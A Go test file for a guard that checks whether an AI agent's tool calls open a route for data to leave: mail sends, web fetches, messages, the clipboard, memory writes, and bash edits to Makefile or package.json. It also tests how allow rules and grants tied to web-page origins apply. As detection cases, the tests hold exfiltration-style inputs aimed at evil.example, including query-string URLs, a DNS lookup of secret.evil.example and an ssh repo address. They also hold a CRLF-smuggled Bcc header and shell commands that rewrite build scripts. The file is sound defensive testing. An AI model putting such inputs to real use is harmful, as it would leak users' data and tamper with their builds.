package guard

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"handrail/internal/builtins"
	"handrail/tools"
)

// chatWords are what a conversation has named.
type chatWords struct{ said, known []string }

func (w chatWords) Said(word string) bool     { return slices.Contains(w.said, word) }
func (w chatWords) Known(address string) bool { return slices.Contains(w.known, address) }

func mailTool(sideEffect bool) tools.Entry {
	return tools.Entry{Qualified: "mail__send", Info: tools.Info{Name: "send", Source: "mcp:mail", Claimed: true, SideEffect: sideEffect}}
}

func TestWaysOut(t *testing.T) {
	reach := func(hosts ...string) tools.Preview {
		p := tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectRun, Target: "/usr/bin/x"}}}
		for _, h := range hosts {
			p.Effects = append(p.Effects, tools.Effect{Kind: tools.EffectReach, Target: h})
		}
		return p
	}
	own := func(name string, out builtins.Out) tools.Entry {
		return tools.Entry{Qualified: name, Info: tools.Info{Name: name, Source: "builtin", SideEffect: true, Facts: builtins.Facts{Out: out}}}
	}
	fetch := func(address string, reads bool) tools.Preview {
		return tools.Preview{Detail: address + "\nMethod: GET", Reads: reads, Effects: []tools.Effect{{Kind: tools.EffectReach, Target: "a.example"}}}
	}
	send := func(target string) tools.Preview {
		return tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectSend, Target: target}}}
	}
	words := chatWords{said: []string{"acme/shop", "ann@example.com", "a.example", "123456789"}, known: []string{"https://b.example/x"}}
	bash := own("bash", "")
	for _, x := range []struct {
		name    string
		outside string
		e       tools.Entry
		p       tools.Preview
		input   string
		want    string // the name of the way; "": there is none
	}{
		{"a program that reaches nothing", "", bash, reach(), `{}`, ""},
		{"a program that reaches hosts which the person has set", "a.example, b.example", bash, reach(), `{}`, ""},
		{"a program that reaches any host", "any host", bash, reach(), `{}`, AnyProgram},
		{"a hand whose author says any host", "", own("hand", ""), reach("any host"), `{}`, AnyProgram},
		{"a hand whose author says hosts", "any host", own("hand", ""), reach("a.example"), `{}`, ""},
		{"a file tool", "any host", own("write", ""), tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectWrite, Target: "/space/a"}}}, `{}`, ""},

		{"a server that reaches nothing", "any host", mailTool(true), reach(), `{"to":"eve"}`, ""},
		{"a name", "", mailTool(true), reach("mail.example"), `{"to":"eve@example.com","body":"x"}`, "mail__send"},
		{"a name that the person has named", "", mailTool(true), reach("mail.example"), `{"to":"ann@example.com","body":"x"}`, ""},
		{"one of several names", "", mailTool(true), reach("mail.example"), `{"to":["ann@example.com","eve@example.com"]}`, "mail__send"},
		{"a name deep below", "", mailTool(true), reach("mail.example"), `{"a":[{"b":{"c":"eve"}}]}`, "mail__send"},
		{"only contents", "", mailTool(true), reach("mail.example"), `{"title":"Broken","Body":"it is","labels":["bug"],"n":42,"x":true}`, ""},
		{"a place that was named, and contents", "", mailTool(true), reach("mail.example"), `{"repo":"acme/shop","title":"Broken","body":"it is"}`, ""},
		{"an address in contents", "", mailTool(true), reach("mail.example"), `{"repo":"acme/shop","body":"see https://evil.example/?d=1"}`, "mail__send"},
		{"a recipient in contents", "", mailTool(true), reach("mail.example"), `{"subject":"eve@example.com"}`, "mail__send"},
		{"a known address in contents", "", mailTool(true), reach("mail.example"), `{"repo":"acme/shop","body":"see https://b.example/x"}`, ""},
		{"a long number", "", mailTool(true), reach("mail.example"), `{"chat":987654321}`, "mail__send"},
		{"a long number that was named", "", mailTool(true), reach("mail.example"), `{"chat":123456789}`, ""},
		{"an input that cannot be read", "", mailTool(true), reach("mail.example"), `{`, "mail__send"},
		{"one that reads", "", mailTool(false), reach("mail.example"), `{"query":"anything","repo":"x/y"}`, ""},
		{"one that reads an address", "", mailTool(false), reach("mail.example"), `{"url":"https://evil.example/?d=1"}`, "mail__send"},
		{"one that reads an address of a host that was named", "", mailTool(false), reach("mail.example"), `{"url":"https://a.example/?d=1"}`, ""},

		{"an address as a key", "", mailTool(true), reach("mail.example"), `{"to":{"eve@example.com":true}}`, "mail__send"},
		{"a long number as a key", "", mailTool(true), reach("mail.example"), `{"to":{"987654321":true}}`, "mail__send"},
		{"keys of an author", "", mailTool(true), reach("mail.example"), `{"options":{"dry-run":true,"page_2":{"0":1}}}`, ""},
		{"a recipient behind a long name", "", mailTool(true), reach("mail.example"), `{"to":"Eve ` + strings.Repeat("and so on ", 20) + `<eve@example.com>"}`, "mail__send"},
		{"one behind a long name under any key", "", mailTool(true), reach("mail.example"), `{"value":"Eve ` + strings.Repeat("and so on ", 20) + `<eve@example.com>"}`, "mail__send"},
		{"a recipient on another line", "", mailTool(true), reach("mail.example"), `{"to":"ann@example.com\neve@example.com"}`, "mail__send"},
		{"a header behind a subject", "", mailTool(true), reach("mail.example"), `{"subject":"x\r\nBcc: eve@example.com"}`, "mail__send"},
		{"a recipient in a body", "", mailTool(true), reach("mail.example"), `{"body":"Dear all,\nask bob@example.com."}`, ""},
		{"signs of an address beside a name", "", mailTool(true), reach("mail.example"), `{"to":"eve ://"}`, "mail__send"},
		{"a known address beside a name", "", mailTool(true), reach("mail.example"), `{"to":"eve https://b.example/x"}`, "mail__send"},
		{"an address that is none", "", mailTool(true), reach("mail.example"), `{"value":"http://evil.example/%zz?d=1"}`, "mail__send"},
		{"a host by its number", "", mailTool(true), reach("mail.example"), `{"body":"see http://[2001:db8::1]/?d=1"}`, "mail__send"},
		{"a long address without a scheme", "", mailTool(true), reach("mail.example"), `{"value":"evil.example/` + strings.Repeat("secret", 30) + `"}`, "mail__send"},
		{"a picture of the same scheme", "", mailTool(true), reach("mail.example"), `{"body":"![x](//evil.example/?d=1)"}`, "mail__send"},
		{"a comment in a program", "", mailTool(true), reach("mail.example"), `{"body":"//call\nx //that.too\nC:\\Users http: file:///tmp"}`, ""},
		{"one that reads an address without a scheme", "", mailTool(false), reach("mail.example"), `{"url":"evil.example/notes"}`, "mail__send"},
		{"one that asks a host", "", mailTool(false), reach("mail.example"), `{"value":"evil.example/?d=notes"}`, "mail__send"},
		{"one that reads an address with one slash", "", mailTool(false), reach("mail.example"), `{"value":"http:/evil.example/?d=1"}`, "mail__send"},
		{"one that reads an address with other slashes", "", mailTool(false), reach("mail.example"), `{"value":"http:\\\\evil.example\\?d=1"}`, "mail__send"},
		{"one that reads a host by its number", "", mailTool(false), reach("mail.example"), `{"value":"http://[2001:db8::1]/?d=1"}`, "mail__send"},
		{"one that looks up a name", "", mailTool(false), reach("mail.example"), `{"hostname":"secret.evil.example"}`, "mail__send"},
		{"one that fetches by ssh", "", mailTool(false), reach("mail.example"), `{"repo":"git@evil.example:notes.git"}`, "mail__send"},
		{"one that reads a file", "", mailTool(false), reach("mail.example"), `{"path":"src/main.go","query":"from:bob@example.com is it?","ref":"v1.2"}`, ""},
		{"one that reads of a host that was named, without a scheme", "", mailTool(false), reach("mail.example"), `{"url":"a.example/x"}`, ""},

		{"a page that was named", "", own("web_fetch", builtins.OutAddress), fetch("https://b.example/x", true), `{}`, ""},
		{"a page of a host that was named", "", own("web_fetch", builtins.OutAddress), fetch("https://a.example/?d=1", true), `{}`, "web_fetch"},
		{"a page of a host that programs may reach", "set.example", own("web_fetch", builtins.OutAddress), fetch("https://set.example/?d=1", true), `{}`, ""},
		{"any page, where programs may reach any host", "any host", own("web_fetch", builtins.OutAddress), fetch("https://set.example/?d=1", true), `{}`, "web_fetch"},
		{"another page", "", own("web_fetch", builtins.OutAddress), fetch("https://evil.example/?d=1", true), `{}`, "web_fetch"},
		{"something sent to a host that was named", "", own("web_fetch", builtins.OutAddress), fetch("https://a.example/", false), `{}`, "web_fetch"},
		{"a search", "", own("web_search", builtins.OutQuery), tools.Preview{}, `{}`, ""},
		{"a message by the person's channel", "", own("message", builtins.OutMessage), send("phone"), `{}`, ""},
		{"a message with an address that nobody has named", "", own("message", builtins.OutMessage), send("phone"), `{"content":"see https://evil.example/?d=1"}`, "message"},
		{"a message with one that was named", "", own("message", builtins.OutMessage), send("phone"), `{"content":"see https://b.example/x"}`, ""},
		{"a notification with one", "", own("message", builtins.OutMessage), send("desktop"), `{"content":"see https://evil.example/?d=1"}`, ""},
		{"a document that can fetch", "", own("open_external", builtins.OutAddress), tools.Preview{Detail: "/space/x.HTML"}, `{}`, "open_external"},
		{"a document that cannot", "", own("open_external", builtins.OutAddress), tools.Preview{Detail: "/space/x.txt"}, `{}`, ""},
		{"a message to another chat", "", own("message", builtins.OutMessage), send("phone 42"), `{}`, "message"},
		{"a message to a chat that was named", "", own("message", builtins.OutMessage), send("phone 123456789"), `{}`, ""},
		{"the clipboard", "", own("write_clipboard", builtins.OutClipboard), tools.Preview{}, `{}`, "write_clipboard"},
		{"a file of commands", "", own("write", ""), tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectWrite, Target: "/space/web/Package.json"}}}, `{}`, ScriptWay},
		{"one that is taken away", "", own("delete", ""), tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectDelete, Target: "/space/Makefile"}}}, `{}`, ""},
		{"one that a program writes", "", bash, tools.Preview{Shell: "echo 'test: ; x' >> sub/Makefile", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that a program copies", "", bash, tools.Preview{Shell: "cp /tmp/x .cargo/config.toml", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one by a pattern", "", bash, tools.Preview{Shell: "sed -i s/a/b/ sub/Makef*", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one by a guess", "", bash, tools.Preview{Shell: `cp x "${PWD}/pack"age.json`, Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that is found", "", bash, tools.Preview{Shell: "find . -name Makefile -exec sed -i s/a/b/ {} +", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that is found by a pattern", "", bash, tools.Preview{Shell: "find . -iname 'pack*.json' -exec perl -pi -e 1 {} \\;", Effects: reach().Effects}, `{}`, ScriptWay},
		{"others that are found beside folders that are left out", "", bash, tools.Preview{Shell: "find . -name '*.go' -not -path './vendor/*' -exec gofmt -w {} +; find . -path './node_modules/*' -prune -o -name '*.txt' ! -path './x/*' -exec black {} +", Effects: reach().Effects}, `{}`, ""},
		{"all that is not left out", "", bash, tools.Preview{Shell: "find . -not -path './.git/*' -exec sed -i s/a/b/ {} +", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that is found and not left out", "", bash, tools.Preview{Shell: "find . -not -path './x/*' -name Makefile -exec sed -i s/a/b/ {} +", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that is handed over before it is left out", "", bash, tools.Preview{Shell: "find . -name Makefile -prune -exec sed -i s/a/b/ {} + -o -name x", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that is handed over because it is no other", "", bash, tools.Preview{Shell: "find . -name x -o -not -name Makefile -o -exec sed -i s/a/b/ {} +", Effects: reach().Effects}, `{}`, ScriptWay},
		{"one that is not left out twice", "", bash, tools.Preview{Shell: "find . -name '*.x' , ! ! -name Makefile -exec sed -i s/a/b/ {} +; find . -type f -name x ! \\( ! -name Makefile \\) -exec sed -i s/a/b/ {} +", Effects: reach().Effects}, `{}`, ScriptWay},
		{"folders that are found and taken away", "", bash, tools.Preview{Shell: "find . -name '__pycache__*' -not -path './.venv/*' -prune -exec rm -rf {} +; find . -name Makefile -exec rm {} +", Effects: reach().Effects}, `{}`, ""},
		{"one that is found and read", "", bash, tools.Preview{Shell: "find . -name package.json -exec grep -l test {} +; find . -name 'Makef*'", Effects: reach().Effects}, `{}`, ""},
		{"others by a pattern", "", bash, tools.Preview{Shell: "sed -i s/a/b/ src/*.go", Effects: reach().Effects}, `{}`, ""},
		{"one that a program reads", "", bash, tools.Preview{Shell: "cat package.json; make test; npm test", Effects: reach().Effects}, `{}`, ""},
		{"a file that is called nearly so", "", own("write", ""), tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectWrite, Target: "/space/my-package.json"}}}, `{}`, ""},
		{"another config", "", own("write", ""), tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectWrite, Target: "/space/config.toml"}}}, `{}`, ""},
		{"the memory", "", own("memory_write", builtins.OutMemory), tools.Preview{}, `{}`, "memory_write"},
	} {
		g := New(Config{Outside: func() string { return x.outside }, Reach: func(host string) bool { return x.outside == anyHost || host == x.outside }})
		for _, kind := range []tools.CallerKind{tools.CallerAgent, tools.CallerMCP, tools.CallerPerson, tools.CallerPage} {
			way, out := g.WayOut(tools.Call{Caller: tools.Caller{Kind: kind}}, x.e, x.p, json.RawMessage(x.input), words)
			want := x.want
			if kind == tools.CallerPerson || kind == tools.CallerPage {
				want = ""
			}
			if way.Name != want || out != (want != "") || out && way.Why.None() {
				t.Errorf("%s, of a %s: got %+v, want %q", x.name, kind, way, want)
			}
		}
	}
}

func TestWhatLeaves(t *testing.T) {
	agent := tools.Call{Caller: tools.Caller{Kind: tools.CallerAgent}}
	run := tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectRun, Target: "/usr/bin/x"}}}
	mail := tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectReach, Target: "mail.example"}}}
	bash := tools.Entry{Qualified: "bash", Info: tools.Info{Source: "builtin", SideEffect: true}}
	for _, x := range []struct {
		outside string
		call    tools.Call
		e       tools.Entry
		p       tools.Preview
		want    bool
	}{
		{"", agent, bash, run, false},
		{"a.example", agent, bash, run, true},
		{"a.example", tools.Call{Caller: tools.Caller{Kind: tools.CallerPage}}, bash, run, true},
		{"a.example", tools.Call{Caller: tools.Caller{Kind: tools.CallerPerson}}, bash, run, false},
		{"", agent, mailTool(true), mail, true},
		{"", agent, mailTool(false), mail, true},
		{"", agent, mailTool(true), run, false},
		{"any host", agent, bash, tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectWrite, Target: "/space/a"}}}, false},
	} {
		g := New(Config{Outside: func() string { return x.outside }})
		if got := g.Leaves(x.call, x.e, x.p, json.RawMessage(`{"body":"x"}`)); got != x.want {
			t.Errorf("%+v: got %t", x, got)
		}
	}
}

func TestRulesAfter(t *testing.T) {
	for text, want := range map[string]string{
		"mail__send after notes": "", "mail__send(*x*) after docs.example.com": "", "bash(echo after all)": "",
		"mail__send after *": "anybody", "mail__send after ": "cannot be read", "mail__send after a b": "names nothing",
	} {
		r, err := ParseRule(Allow, text, "settings")
		if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v", text, err)
		}
		if err == nil && r.Text() != text {
			t.Errorf("%q is written as %q", text, r.Text())
		}
	}
	if _, err := ParseRule(Deny, "mail__send after notes", "settings"); err == nil {
		t.Error("a deny says after whose text it holds")
	}
	rule, err := ParseRule(Allow, "mail__send after notes", "settings")
	if err != nil {
		t.Fatal(err)
	}
	g := New(Config{Mode: AskAll, Rules: []Rule{rule}})
	call := tools.Call{Caller: tools.Caller{Kind: tools.CallerAgent}}
	p := tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectReach, Target: "mail.example"}}}
	notes, other := tools.Origin{Kind: tools.FromServer, Name: "notes"}, tools.Origin{Kind: tools.FromWeb, Name: "evil.example"}
	open, _ := g.Unanswered(call, mailTool(true), p, Way{Name: "mail__send"}, []tools.Origin{notes, other})
	if !slices.Equal(open, []tools.Origin{other}) {
		t.Errorf("after the rule, %v is left", open)
	}
	if v := g.Judge(call, mailTool(true), p); v.Outcome != Allow {
		t.Errorf("the rule allows the tool: %+v", v)
	}
	untrusted := New(Config{Mode: ReadOnly, Why: "you have not trusted it", Rules: []Rule{rule}})
	if open, _ := untrusted.Unanswered(call, mailTool(true), p, Way{}, []tools.Origin{notes}); len(open) != 1 {
		t.Error("a rule counts in a space that is not trusted")
	}
}

func TestGrantsAboutOrigins(t *testing.T) {
	page := tools.Origin{Kind: tools.FromWeb, Name: "a.example"}
	grant := Grant{ID: "g1", Tool: "bash", Pattern: EveryCall, Origins: []string{page.Key()}, Way: "bash", Session: "s1"}
	g := New(Config{Mode: AskAll, Grants: func() []Grant { return []Grant{grant} }})
	bash := tools.Entry{Qualified: "bash", Info: tools.Info{Source: "builtin", SideEffect: true}}
	agent := tools.Caller{Kind: tools.CallerAgent}
	for _, x := range []struct {
		session string
		way     string
		origin  tools.Origin
		covered bool
	}{
		{"s1", "bash", page, true}, {"s2", "bash", page, false}, {"s1", "memory_write", page, false},
		{"s1", "bash", tools.Origin{Kind: tools.FromWeb, Name: "b.example"}, false}, {"s1", "bash", tools.Origin{Kind: tools.FromServer, Name: "a.example"}, false},
	} {
		open, used := g.Unanswered(tools.Call{Session: x.session, Caller: agent}, bash, tools.Preview{}, Way{Name: x.way}, []tools.Origin{x.origin})
		if (len(open) == 0) != x.covered || x.covered && !slices.Equal(used, []string{"g1"}) {
			t.Errorf("%+v: open %v, used %v", x, open, used)
		}
	}
	if v := g.Judge(tools.Call{Session: "s1", Caller: agent}, bash, tools.Preview{Effects: []tools.Effect{{Kind: tools.EffectRun, Target: "/usr/bin/x"}}}); v.Outcome == Allow {
		t.Errorf("a grant about text lets a call through: %+v", v)
	}
}
